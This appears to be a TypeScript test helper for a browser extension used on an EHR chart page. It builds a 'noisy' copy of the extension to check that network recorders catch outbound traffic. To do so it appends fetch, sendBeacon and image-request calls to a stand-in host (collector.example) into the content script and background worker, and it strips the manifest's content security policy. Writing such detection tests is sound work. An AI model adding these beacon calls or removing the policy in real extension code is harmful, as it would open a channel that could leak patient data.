import { appendFileSync, cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { builtExtension } from './extension-browser';

/** What the noisy build calls, each by its own way out. */
export const noises = ['content-fetch', 'content-beacon', 'content-image', 'worker-fetch'] as const;

/** The path it asks the EHR's own server for. */
export const noiseAtHome = '/collect-content';

const collector = 'https://collector.example';

const inContent = `
fetch('${collector}/content-fetch').catch(() => {});
navigator.sendBeacon('${collector}/content-beacon', 'x');
new Image().src = '${collector}/content-image';
fetch('${noiseAtHome}').catch(() => {});`;

const inWorker = `
fetch('${collector}/worker-fetch').catch(() => {});`;

/**
 * A copy of the built extension that sends, to show that the recorders would notice. It goes without the policy that
 * forbids connections, because that stops the worker before any recorder sees a thing. Returns its folder.
 */
export function makeNoisyBuild(): string {
  const folder = mkdtempSync(join(tmpdir(), 'thioguard-noisy-'));
  cpSync(builtExtension, folder, { recursive: true });
  appendFileSync(join(folder, 'content-scripts', 'chart.js'), inContent);
  appendFileSync(join(folder, 'background.js'), inWorker);
  const { content_security_policy: _forbidsConnections, ...manifest } = JSON.parse(
    readFileSync(join(folder, 'manifest.json'), 'utf8'),
  );
  writeFileSync(join(folder, 'manifest.json'), JSON.stringify(manifest));
  return folder;
}
